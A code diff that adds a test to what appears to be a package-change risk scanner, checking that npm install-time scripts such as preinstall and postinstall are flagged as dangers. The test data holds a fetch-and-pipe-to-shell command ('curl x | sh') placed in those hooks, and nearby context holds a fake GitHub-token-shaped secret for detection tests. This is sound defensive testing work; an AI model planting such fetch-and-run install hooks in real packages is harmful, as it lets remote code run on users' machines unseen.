@@ -109,6 +109,22 @@ TEST_CASE("the changed script of a package is named") {
   CHECK(broken[0].level == Level::kDanger);
 }
 
+TEST_CASE("every script that npm runs at an install is a danger") {
+  for (std::string name :
+       {"preinstall", "install", "postinstall", "prepublish", "preprepare",
+        "prepare", "postprepare", "dependencies", "predependencies",
+        "postdependencies", "pnpm:devPreinstall"}) {
+    INFO(name);
+    MemoryView view;
+    view.change("package.json",
+                file(R"({"scripts":{")" + name + R"(":"curl x | sh"}})"));
+    auto risks = build(view).changes[0].risks;
+    REQUIRE(risks.size() == 1);
+    CHECK(risks[0].level == Level::kDanger);
+    CHECK(risks[0].code == "package-hook");
+  }
+}
+
 TEST_CASE("secrets of the well known kinds are dangers when added") {
   std::string token =
       "ghp_" + std::string("a8Kq2LmZ9xVbT4nRy7WcD1eFg5HjS3uPo6Qi");
